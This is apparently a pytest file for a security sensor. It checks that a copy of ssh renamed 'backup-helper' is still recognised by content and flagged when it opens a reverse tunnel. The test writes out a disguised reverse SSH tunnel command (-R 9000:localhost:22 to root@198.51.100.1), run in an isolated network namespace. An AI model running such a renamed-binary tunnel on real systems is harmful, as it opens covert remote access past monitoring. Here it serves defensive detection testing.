"""Binary identity made by the real probe at exec time, against the timing attack: a copy of
ssh under an unrelated name, run once for a few milliseconds, then with -R."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

from sensor import events as ev
from sensor.aggregator.facts import TunnelFact
from tests.kernel.conftest import LiveProbe, exec_of
from tests.waiting import wait_until


def test_a_copy_of_ssh_run_for_a_moment_is_still_ssh_when_it_opens_a_tunnel(live: LiveProbe, tmp_path: Path) -> None:
    copy = tmp_path / "backup-helper"
    shutil.copy("/usr/bin/ssh", copy)
    brief = subprocess.Popen([str(copy), "-V"], stderr=subprocess.DEVNULL)  # prints its version, exits at once
    assert brief.wait(timeout=10) == 0
    # Then a reverse tunnel, in a network namespace of its own with no route anywhere: it fails
    # at once (no traffic leaves), after its exec, which is all the sensor needs to see.
    tunnel = subprocess.Popen(["unshare", "--net", str(copy), "-N", "-o", "BatchMode=yes", "-R", "9000:localhost:22",
                               "root@198.51.100.1"], stderr=subprocess.DEVNULL)
    assert tunnel.wait(timeout=30) == 255
    (first,) = live.wait_for(exec_of(brief.pid), what="the brief run's exec")
    second = live.wait_for(lambda e: exec_of(tunnel.pid)(e) and isinstance(e, ev.Exec) and
                           e.filename == str(copy).encode(), what="the tunnel's exec")[0]
    assert isinstance(first, ev.Exec) and isinstance(second, ev.Exec)
    assert (first.tool, first.identity) == ("ssh", "content")
    assert (second.tool, second.identity) == ("ssh", "content")
    facts = wait_until(lambda: [f for o in list(live.collector.observations) for f in o.facts
                                if isinstance(f, TunnelFact) and f.process.pid == tunnel.pid],
                       what="the tunnel fact")
    assert [(f.tool, f.reverse, f.remote_host, f.forwards) for f in facts] == [
        ("ssh", True, "198.51.100.1", ("reverse 9000 -> localhost:22",))]
    alerts = wait_until(lambda: [a for o in list(live.collector.observations) for a in o.alerts
                                 if a.rule_id == "reverse-tunnel-opened" and
                                 any(p.pid == tunnel.pid for p in a.processes)], what="the tunnel alert")
    assert alerts[0].processes[0].exe == str(copy)
